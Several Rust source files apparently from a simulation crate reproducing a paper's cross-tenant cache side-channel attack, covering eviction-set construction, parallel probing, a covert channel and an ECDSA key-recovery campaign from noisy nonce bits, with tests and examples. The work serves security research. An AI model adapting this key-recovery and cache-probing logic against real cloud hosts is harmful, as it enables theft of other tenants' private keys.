/// iteration rounds to zero: the observation is a duplicate detection of
/// the *same* boundary (e.g. a trailing noise access) and collides with the
/// previous one — the more confident observation wins, and later positions
/// are unaffected. Observations that land beyond the last position are
/// dropped; unclaimed positions are [`BitEstimate::Erased`].
pub fn align_observed_bits(
    observed: &[ObservedBit],
    iteration_cycles: u64,
    positions: usize,
    shift: usize,
) -> Vec<BitEstimate> {
    let mut estimates = vec![BitEstimate::Erased; positions];
    let mut iter = observed.iter();
    let Some(first) = iter.next() else {
        return estimates;
    };
    let iteration = iteration_cycles.max(1);

    let mut place = |idx: usize, bit: &ObservedBit| {
        if idx >= positions {
            return;
        }
        match estimates[idx] {
            BitEstimate::Known { confidence, .. } if confidence >= bit.confidence => {}
            _ => estimates[idx] = BitEstimate::Known { bit: bit.bit, confidence: bit.confidence },
        }
    };

    let mut pos = shift;
    let mut last_at = first.at;
    place(pos, first);
    for bit in iter {
        let gap = bit.at.saturating_sub(last_at);
        // Per-gap rounding: (gap + iteration/2) / iteration. Zero is a
        // same-boundary duplicate and resolves by confidence in `place`;
        // clamping it to one would shift every later bit off its true
        // position.
        let delta = ((gap + iteration / 2) / iteration) as usize;
        pos = pos.saturating_add(delta);
        last_at = bit.at;
        if pos >= positions {
            break;
        }
        place(pos, bit);
    }
    estimates
}

#[cfg(test)]
mod tests {
    use super::*;

    fn obs(at: u64, bit: bool) -> ObservedBit {
        ObservedBit { at, bit, confidence: 0.9 }
    }

    #[test]
    fn contiguous_observations_fill_contiguous_positions() {
        let observed: Vec<ObservedBit> =
            (0..5).map(|i| obs(1_000 + i * 10_000, i % 2 == 0)).collect();
        let est = align_observed_bits(&observed, 10_000, 8, 0);
        for (i, e) in est.iter().take(5).enumerate() {
            assert_eq!(*e, BitEstimate::Known { bit: i % 2 == 0, confidence: 0.9 }, "pos {i}");
        }
        assert!(est[5..].iter().all(|e| e.is_erased()));
    }

    #[test]
    fn double_gap_skips_a_position() {
        let observed = [obs(0, true), obs(19_800, false)]; // ~2 iterations apart
        let est = align_observed_bits(&observed, 10_000, 4, 0);
        assert!(!est[0].is_erased());
        assert!(est[1].is_erased(), "the skipped iteration must be an erasure");
        assert_eq!(est[2], BitEstimate::Known { bit: false, confidence: 0.9 });
    }

    #[test]
    fn jitter_does_not_accumulate_into_drift() {
        // 3% per-iteration jitter over 40 iterations: cumulative absolute
        // rounding would drift by more than one position; per-gap rounding
        // must keep every bit on its true position.
        let iteration = 10_000u64;
        let mut at = 500u64;
        let mut observed = Vec::new();
        for i in 0..40u64 {
            observed.push(obs(at, i % 3 == 0));
            at += iteration + if i % 2 == 0 { 300 } else { 260 };
        }
        let est = align_observed_bits(&observed, iteration, 40, 0);
        for (i, e) in est.iter().enumerate() {
            assert_eq!(
                *e,
                BitEstimate::Known { bit: i as u64 % 3 == 0, confidence: 0.9 },
                "position {i} drifted"
            );
        }
    }

    #[test]
    fn shift_hypothesis_offsets_every_position() {
        let observed = [obs(0, true), obs(10_000, false)];
        let est = align_observed_bits(&observed, 10_000, 5, 2);
        assert!(est[0].is_erased() && est[1].is_erased());
        assert_eq!(est[2], BitEstimate::Known { bit: true, confidence: 0.9 });
        assert_eq!(est[3], BitEstimate::Known { bit: false, confidence: 0.9 });
    }

    #[test]
    fn duplicate_detections_collide_and_confidence_wins() {
        // A trailing duplicate of the same boundary (gap ≪ iteration) must
        // NOT consume a ladder position — clamping it forward would shift
        // every later bit off its true position.
        let observed = [
            obs(0, true),
            ObservedBit { at: 100, bit: false, confidence: 0.99 }, // duplicate, more confident
            obs(10_050, false), // the real next iteration
        ];
        let est = align_observed_bits(&observed, 10_000, 3, 0);
        assert_eq!(
            est[0],
            BitEstimate::Known { bit: false, confidence: 0.99 },
            "the more confident duplicate wins position 0"
        );
        assert_eq!(est[1], BitEstimate::Known { bit: false, confidence: 0.9 });
        assert!(est[2].is_erased());

        // The less confident duplicate loses.
        let observed = [obs(0, true), ObservedBit { at: 100, bit: false, confidence: 0.1 }];
        let est = align_observed_bits(&observed, 10_000, 2, 0);
        assert_eq!(est[0], BitEstimate::Known { bit: true, confidence: 0.9 });
        assert!(est[1].is_erased());
    }

    #[test]
    fn overflow_and_empty_inputs_are_handled() {
        // Observations landing past the last position are dropped.
        let observed = [obs(0, true), obs(10_000, false), obs(20_000, true)];
        let est = align_observed_bits(&observed, 10_000, 2, 0);
        assert_eq!(est.len(), 2);
        assert!(!est[0].is_erased() && !est[1].is_erased());

        assert!(align_observed_bits(&[], 10_000, 3, 0).iter().all(|e| e.is_erased()));
    }
}
