//! The multi-signature campaign: keep consuming fresh signature
//! observations until some signature's corrected nonce verifies.
//!
//! Per-signature recovery is all-or-nothing — either the correction search
//! reaches the true nonce within budget or it fails cleanly (verification is
//! a perfect public-information oracle, so there are no false positives).
//! The campaign therefore treats signatures as independent lottery tickets:
//! every fresh signing gives a fresh nonce, a fresh noise realisation and a
//! fresh chance that the decoder's erasures and errors fit the budget. The
//! driver consumes observations in order, runs the alignment-shift
//! hypotheses and the correction search for each, and stops at the first
//! verified key.
//!
//! The driver is deliberately ignorant of *how* observations are produced:
//! the caller supplies a closure. `llc-core` feeds it from the live attack
//! machine (monitoring one signing per call), and `llc-bench`'s `e2e_key`
//! campaign shards observation collection across the `llc-fleet` executor
//! with per-signature machine snapshot/reset — either way the report is a
//! pure function of the observations, so results are independent of thread
//! count and collection strategy.

use crate::algebra::KeyVerifier;
use crate::search::{correct_and_recover, SearchConfig};
use crate::soft::{align_observed_bits, ObservedBit};
use llc_ecdsa_victim::{Point, Scalar, Signature};
use std::time::{Duration, Instant};

/// Everything Step 3 observed about one signing: the soft-decoded bits and
/// the *public* signature components. No ground truth crosses this boundary.
#[derive(Debug, Clone)]
pub struct SignatureObservation {
    /// The signature the service returned for this signing.
    pub signature: Signature,
    /// The hashed message `z` (the attacker knows what it asked the service
    /// to sign).
    pub hashed_message: Scalar,
    /// Soft-decoded ladder bits, in observation order.
    pub observed: Vec<ObservedBit>,
    /// Simulated cycles spent capturing this observation.
    pub sim_cycles: u64,
}

/// Configuration of the campaign driver.
#[derive(Debug, Clone, PartialEq)]
pub struct CampaignConfig {
    /// Ladder positions per signing: the nonce's bit width minus one (the
    /// group order's 570 bits for the real victim, the scaled width for test
    /// victims — public service parameters either way).
    pub ladder_bits: usize,
    /// Nominal ladder iteration duration in cycles (drives alignment).
    pub iteration_cycles: u64,
    /// Give up after this many signatures.
    pub max_signatures: usize,
    /// Alignment-shift hypotheses tried per signature (`0..=max`): how many
    /// leading iterations the decoder may have missed entirely.
    pub max_alignment_shift: usize,
    /// Budget of the per-signature correction search. The budget is spent
    /// per (signature, shift) attempt.
    pub search: SearchConfig,
}

impl Default for CampaignConfig {
    fn default() -> Self {
        Self {
            ladder_bits: 569,
            iteration_cycles: 9_700,
            max_signatures: 20,
            max_alignment_shift: 2,
            search: SearchConfig::default(),
        }
    }
}

/// A successfully recovered key, with its provenance.
#[derive(Debug, Clone, PartialEq)]
pub struct RecoveredKey {
    /// The private key `d`, verified against the public key.
    pub private: Scalar,
    /// The corrected full nonce that yielded it.
    pub nonce: Scalar,
    /// Index of the signature that broke (0-based).
    pub signature_index: usize,
    /// Alignment-shift hypothesis that succeeded.
    pub alignment_shift: usize,
    /// Known-bit flips the successful candidate needed.
    pub flips: usize,
}

/// Outcome of a campaign.
#[derive(Debug, Clone)]
pub struct CampaignReport {
    /// The recovered key, if any signature broke within budget.
    pub recovered: Option<RecoveredKey>,
    /// Signatures observed (and attacked) before stopping.
    pub signatures_observed: usize,
    /// `signature_index + 1` of the successful signature — the paper-style
    /// "signatures needed" metric.
    pub signatures_needed: Option<usize>,
    /// Total correction-search candidates examined across all attempts.
    pub candidates_examined: u64,
    /// Total candidates submitted to the verifier.
    pub candidates_tested: u64,
    /// Simulated cycles spent capturing the consumed observations.
    pub sim_cycles: u64,
    /// Host wall-clock time of the whole campaign (observation + search).
    pub wall: Duration,
}

/// Work statistics of [`attempt_signature`].
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct AttemptStats {
    /// Candidate flip sets examined across all shift hypotheses.
    pub candidates_examined: u64,
    /// Candidates submitted to the verifier.
    pub candidates_tested: u64,
    /// Erased ladder positions of the shift-0 alignment (the reconstruction
    /// quality the search actually saw).
    pub erasures: usize,
}

/// Attacks one observed signature: alignment-shift hypotheses × correction
/// search, verified against the public key. Returns the key (with
/// provenance fields other than `signature_index` filled in) and the search
/// work spent.
pub fn attempt_signature(
    config: &CampaignConfig,
    public: &Point,
    observation: &SignatureObservation,
) -> (Option<RecoveredKey>, AttemptStats) {
    let mut stats = AttemptStats::default();
    let verifier = KeyVerifier::new(
        *public,
        observation.signature,
        observation.hashed_message,
    );
    for shift in 0..=config.max_alignment_shift {
        let estimates = align_observed_bits(
            &observation.observed,
            config.iteration_cycles,
            config.ladder_bits,
            shift,
        );
        let outcome =
            correct_and_recover(&estimates, &config.search, |k| verifier.try_nonce(k));
        if shift == 0 {
            stats.erasures = outcome.erasures;
        }
        stats.candidates_examined += outcome.candidates_examined;
        stats.candidates_tested += outcome.candidates_tested;
        if let (Some(private), Some(nonce)) = (outcome.key, outcome.nonce) {
            return (
                Some(RecoveredKey {
                    private,
                    nonce,
                    signature_index: 0,
                    alignment_shift: shift,
                    flips: outcome.flips_of_solution.unwrap_or(0),
                }),
                stats,
            );
        }
    }
    (None, stats)
}

/// Runs the campaign: calls `observe(i)` for `i = 0, 1, …` to obtain fresh
/// signature observations (returning `None` ends the campaign early, e.g.
/// when the signature source is exhausted), attacks each in order, and stops
/// at the first verified key or after `max_signatures` observations.
pub fn run_campaign<F>(
    config: &CampaignConfig,
    public: &Point,
    mut observe: F,
) -> CampaignReport
where
    F: FnMut(usize) -> Option<SignatureObservation>,
{
    let started = Instant::now();
    let mut report = CampaignReport {
        recovered: None,
        signatures_observed: 0,
        signatures_needed: None,
        candidates_examined: 0,
        candidates_tested: 0,
        sim_cycles: 0,
        wall: Duration::ZERO,
    };
    for index in 0..config.max_signatures {
        let Some(observation) = observe(index) else {
            break;
        };
        report.signatures_observed += 1;
        report.sim_cycles += observation.sim_cycles;
        let (recovered, stats) = attempt_signature(config, public, &observation);
        report.candidates_examined += stats.candidates_examined;
        report.candidates_tested += stats.candidates_tested;
        if let Some(mut key) = recovered {
            key.signature_index = index;
            report.signatures_needed = Some(index + 1);
            report.recovered = Some(key);
            break;
        }
    }
    report.wall = started.elapsed();
    report
}

#[cfg(test)]
mod tests {
    use super::*;
    use llc_ecdsa_victim::{hash_to_scalar, Ecdsa, KeyPair, SigningTranscript};
    use rand::rngs::SmallRng;
    use rand::SeedableRng;

    const NONCE_BITS: usize = 32;
    const ITER: u64 = 10_000;

    fn service(seed: u64) -> (KeyPair, Vec<SigningTranscript>) {
        let ecdsa = Ecdsa::new();
        let mut rng = SmallRng::seed_from_u64(seed);
        let key = KeyPair::from_private(ecdsa.curve(), Scalar::random(&mut rng));
        let z = hash_to_scalar(b"campaign test");
        let transcripts = (0..4)
            .map(|_| loop {
                let nonce = Scalar::random_with_bit_length(&mut rng, NONCE_BITS);
                if let Some(t) = ecdsa.sign_with_nonce(&key, &z, nonce) {
                    break t;
                }
            })
            .collect();
        (key, transcripts)
    }

    /// Builds an observation from a transcript, with `erase` positions
    /// dropped and `flip` positions inverted at low confidence.
    fn observe(t: &SigningTranscript, erase: &[usize], flip: &[usize]) -> SignatureObservation {
        let observed = t
            .ladder_bits
            .iter()
            .enumerate()
            .filter(|(i, _)| !erase.contains(i))
            .map(|(i, &b)| ObservedBit {
                at: 1_000 + i as u64 * ITER,
                bit: if flip.contains(&i) { !b } else { b },
                confidence: if flip.contains(&i) { 0.05 } else { 0.9 },
            })
            .collect();
        SignatureObservation {
            signature: t.signature,
            hashed_message: t.hashed_message,
            observed,
            sim_cycles: 5_000_000,
        }
    }

    fn config() -> CampaignConfig {
        CampaignConfig {
            ladder_bits: NONCE_BITS - 1,
            iteration_cycles: ITER,
            max_signatures: 4,
            max_alignment_shift: 1,
            // Small budget: every tested candidate costs a curve ladder, and
            // these tests also run under the unoptimised dev profile.
            search: SearchConfig { max_candidates: 100, max_flips: 2 },
        }
    }

    #[test]
    fn campaign_recovers_from_the_first_clean_signature() {
        let (key, transcripts) = service(1);
        let report = run_campaign(&config(), key.public(), |i| {
            Some(observe(&transcripts[i], &[], &[]))
        });
        let recovered = report.recovered.expect("clean observation must break immediately");
        assert_eq!(&recovered.private, key.private());
        assert_eq!(recovered.signature_index, 0);
        assert_eq!(report.signatures_needed, Some(1));
        assert_eq!(report.signatures_observed, 1);
        assert_eq!(report.sim_cycles, 5_000_000);
    }

    #[test]
    fn campaign_skips_unrecoverable_signatures() {
        let (key, transcripts) = service(2);
        // Signature 0: hopeless (half the bits erased). Signature 1: noisy
        // but within budget (3 erasures + 1 low-confidence error).
        let hopeless: Vec<usize> = (0..NONCE_BITS - 1).step_by(2).collect();
        let report = run_campaign(&config(), key.public(), |i| match i {
            0 => Some(observe(&transcripts[0], &hopeless, &[])),
            1 => Some(observe(&transcripts[1], &[3, 9, 17], &[12])),
            _ => None,
        });
        let recovered = report.recovered.expect("signature 1 must break");
        assert_eq!(&recovered.private, key.private());
        assert_eq!(recovered.signature_index, 1);
        assert_eq!(report.signatures_needed, Some(2));
        assert_eq!(report.signatures_observed, 2);
        assert!(report.candidates_tested > 1);
    }

    #[test]
    fn campaign_fails_cleanly_when_every_signature_is_beyond_budget() {
        let (key, transcripts) = service(3);
        let hopeless: Vec<usize> = (0..NONCE_BITS - 1).step_by(2).collect();
        let report = run_campaign(&config(), key.public(), |i| {
            Some(observe(&transcripts[i], &hopeless, &[]))
        });
        assert!(report.recovered.is_none());
        assert_eq!(report.signatures_observed, 4, "all max_signatures consumed");
        assert_eq!(report.signatures_needed, None);
    }

    #[test]
    fn alignment_shift_hypothesis_rescues_missed_leading_iterations() {
        let (key, transcripts) = service(4);
        let t = &transcripts[0];
        // Drop the first observation entirely: without the shift-1
        // hypothesis the whole reconstruction would be off by one position.
        let mut obs = observe(t, &[], &[]);
        obs.observed.remove(0);
        let report = run_campaign(&config(), key.public(), |_| Some(obs.clone()));
        let recovered = report.recovered.expect("shift search must rescue the alignment");
        assert_eq!(&recovered.private, key.private());
        assert_eq!(recovered.alignment_shift, 1);
    }

    #[test]
    fn exhausted_source_ends_the_campaign() {
        let (key, _) = service(5);
        let report = run_campaign(&config(), key.public(), |_| None);
        assert!(report.recovered.is_none());
        assert_eq!(report.signatures_observed, 0);
        assert_eq!(report.candidates_examined, 0);
    }
}
