//! Eviction-set construction shoot-out: every pruning algorithm, with and
//! without L2-driven candidate filtering, in a quiet lab and under Cloud Run
//! noise — a miniature version of the paper's Tables 3 and 4.
//!
//! Run with: `cargo run --release --example evset_race`

use llc_feasible::attack::Algorithm;
use llc_feasible::cache_model::CacheSpec;
use llc_feasible::evsets::{oracle, EvsetBuilder, EvsetConfig, TargetCache};
use llc_feasible::machine::{Machine, NoiseModel};
use rand::rngs::StdRng;
use rand::SeedableRng;

fn main() {
    let spec = CacheSpec::skylake_sp(4, 4);
    let trials = 3;
    println!("eviction-set construction race on {} ({trials} trials per cell)", spec.name);
    println!(
        "{:<18} {:<8} {:<10} {:>10} {:>12}",
        "Environment", "Algo", "Filtering", "Success", "Avg ms"
    );

    for (env_label, noise) in
        [("quiescent local", NoiseModel::quiescent_local()), ("cloud run", NoiseModel::cloud_run())]
    {
        for algorithm in Algorithm::all() {
            for filtering in [false, true] {
                let algo = algorithm.instance();
                let mut successes = 0;
                let mut total_ms = 0.0;
                for trial in 0..trials {
                    let mut machine = Machine::builder(spec.clone())
                        .noise(noise.clone())
                        .seed(0xace + trial)
                        .build();
                    let mut rng = StdRng::seed_from_u64(0xace ^ trial);
                    let config =
                        if filtering { EvsetConfig::filtered() } else { EvsetConfig::unfiltered() };
                    let builder = EvsetBuilder::new(algo.as_ref())
                        .config(config)
                        .target(TargetCache::Sf)
                        .filtering(filtering);
                    let result = builder.build_random_set(&mut machine, &mut rng);
                    total_ms += result.total_cycles as f64 / (spec.freq_ghz * 1e6);
                    if let Some(set) = &result.eviction_set {
                        if oracle::is_true_eviction_set(
                            &machine,
                            set.addresses()[0],
                            set.addresses(),
                            spec.sf.ways(),
                        ) {
                            successes += 1;
                        }
                    }
                }
                println!(
                    "{:<18} {:<8} {:<10} {:>9.0}% {:>12.1}",
                    env_label,
                    algorithm.name(),
                    if filtering { "yes" } else { "no" },
                    100.0 * successes as f64 / trials as f64,
                    total_ms / trials as f64
                );
            }
        }
    }
    println!();
    println!("expected shape (paper, Tables 3-4): under cloud noise the unfiltered");
    println!("algorithms slow down and fail often; candidate filtering restores high");
    println!("success rates, and BinS is the fastest filtered algorithm.");
}
