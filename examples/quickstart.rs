//! Quickstart: build one snoop-filter eviction set with the paper's
//! binary-search algorithm (plus L2-driven candidate filtering) and use it to
//! monitor a co-located process's accesses.
//!
//! Run with: `cargo run --release --example quickstart`

use llc_feasible::cache_model::CacheSpec;
use llc_feasible::evsets::{BinarySearch, EvsetBuilder};
use llc_feasible::machine::{Machine, NoiseModel, PeriodicToucher};
use llc_feasible::probe::{Monitor, Strategy};
use rand::rngs::StdRng;
use rand::SeedableRng;

fn main() {
    // A scaled-down Skylake-SP host (4 LLC/SF slices) under Cloud Run noise.
    let spec = CacheSpec::skylake_sp(4, 4);
    let mut machine = Machine::builder(spec.clone()).noise(NoiseModel::cloud_run()).seed(42).build();
    let mut rng = StdRng::seed_from_u64(42);

    // A co-located "victim" that touches one of its lines every 20k cycles.
    let victim = PeriodicToucher::new(20_000, 1_000_000, 0x240);
    machine.install_victim(Box::new(victim), true, 0);

    // Step 1: construct one SF eviction set (random target set at offset 0x240).
    println!("constructing an SF eviction set with candidate filtering + BinS ...");
    let algorithm = BinarySearch::new();
    let builder = EvsetBuilder::new(&algorithm);
    let result = builder.build_random_set(&mut machine, &mut rng);
    let Some(eviction_set) = result.eviction_set else {
        println!("construction failed: {:?}", result.last_error);
        return;
    };
    println!(
        "built a {}-address eviction set in {:.2} ms of simulated time ({} attempts)",
        eviction_set.len(),
        result.total_cycles as f64 / (spec.freq_ghz * 1e6),
        result.attempts
    );

    // Steps 2-3 (simplified): monitor the set with Parallel Probing for 5 ms.
    let mut monitor = Monitor::new(Strategy::Parallel, eviction_set);
    let trace = monitor.collect(&mut machine, (5.0 * spec.freq_ghz * 1e6) as u64);
    println!(
        "monitored the set for 5 ms: {} accesses detected ({:.1} per ms, mostly other tenants)",
        trace.len(),
        trace.accesses_per_ms(spec.freq_ghz)
    );
    let stats = monitor.stats();
    println!(
        "parallel probing: prime = {:.0} cycles, probe = {:.0} cycles on average",
        stats.mean_prime_cycles, stats.mean_probe_cycles
    );
}
