//! Covert-channel demo (the Figure 6 experiment): a sender process touches an
//! agreed-upon snoop-filter set at a fixed interval and a receiver compares
//! the three monitoring strategies' ability to see those accesses.
//!
//! Run with: `cargo run --release --example covert_channel`

use llc_feasible::cache_model::CacheSpec;
use llc_feasible::machine::NoiseModel;
use llc_feasible::probe::{run_covert_channel, CovertChannelConfig, Strategy};

fn main() {
    let spec = CacheSpec::skylake_sp(2, 4);
    println!("covert channel on {} under Cloud Run noise", spec.name);
    println!(
        "{:<12} {:>12} {:>16} {:>16} {:>16}",
        "Strategy", "Interval", "Detection", "Prime (cyc)", "Probe (cyc)"
    );
    for interval in [2_000u64, 10_000, 100_000] {
        for strategy in Strategy::all() {
            let config = CovertChannelConfig {
                spec: spec.clone(),
                noise: NoiseModel::cloud_run(),
                access_interval: interval,
                sender_accesses: 500,
                ..Default::default()
            };
            let result = run_covert_channel(&config, strategy);
            println!(
                "{:<12} {:>12} {:>15.1}% {:>16.0} {:>16.0}",
                strategy.to_string(),
                interval,
                100.0 * result.detection_rate,
                result.stats.mean_prime_cycles,
                result.stats.mean_probe_cycles
            );
        }
    }
    println!();
    println!("expected shape (paper, Figure 6): Parallel Probing detects the large");
    println!("majority of sender accesses even at a 2k-cycle interval, while PS-Flush");
    println!("and PS-Alt only catch up at much longer intervals.");
}
