//! The full cross-tenant attack, end to end: build SF eviction sets at the
//! victim's page offset, identify the target set with PSD + SVM while the
//! victim signs, then monitor it with Parallel Probing and decode the ECDSA
//! nonce bits (Section 7 of the paper).
//!
//! Run with: `cargo run --release --example end_to_end_attack`

use llc_feasible::attack::{AttackConfig, EndToEndAttack};
use llc_feasible::cache_model::CacheSpec;
use llc_feasible::ecdsa_victim::EcdsaVictimConfig;
use llc_feasible::machine::NoiseModel;

fn main() {
    // A scaled Skylake-SP host (4 slices) under Cloud Run noise, attacking a
    // victim that signs with 128-bit nonces so the example finishes quickly.
    let victim = EcdsaVictimConfig {
        nonce_bits: 128,
        pre_cycles: 2_000_000,
        post_cycles: 800_000,
        ..EcdsaVictimConfig::default()
    };
    let mut config = AttackConfig {
        spec: CacheSpec::skylake_sp(4, 4),
        noise: NoiseModel::cloud_run(),
        signatures: 5,
        ..AttackConfig::default()
    };
    config.classifier.features.expected_period_cycles = victim.expected_access_period();
    config.classifier.noise_per_ms = 11.5;
    config.extraction.iteration_cycles = victim.iteration_cycles;
    config.victim = victim;

    println!("running the end-to-end attack (this simulates several seconds of victim time)...");
    let report = EndToEndAttack::new(config).run();

    println!();
    println!("Step 1 (eviction sets): built {} sets for {} targets ({:.1}% success) in {:.2} s",
        report.evset.sets_built,
        report.evset.attempted,
        100.0 * report.evset.success_rate,
        report.evset.cycles as f64 / (report.freq_ghz * 1e9));
    println!(
        "Step 2 (identification): identified = {}, correct = {}, {:.2} s, {} traces",
        report.identify.identified,
        report.identify.correct,
        report.identify.cycles as f64 / (report.freq_ghz * 1e9),
        report.identify.traces
    );
    println!(
        "Step 3 (extraction): median {:.1}% of nonce bits recovered, {:.1}% bit errors over {} signings",
        100.0 * report.extract.median_recovered_fraction(),
        100.0 * report.extract.mean_bit_error_rate(),
        report.extract.scores.len()
    );
    println!("total simulated attack time: {:.1} s", report.total_seconds());
    println!();
    println!(
        "paper's headline numbers on the real 28-slice Cloud Run hosts: 81% median nonce \
         bits, 3% bit error rate, ~19 s end to end"
    );
}
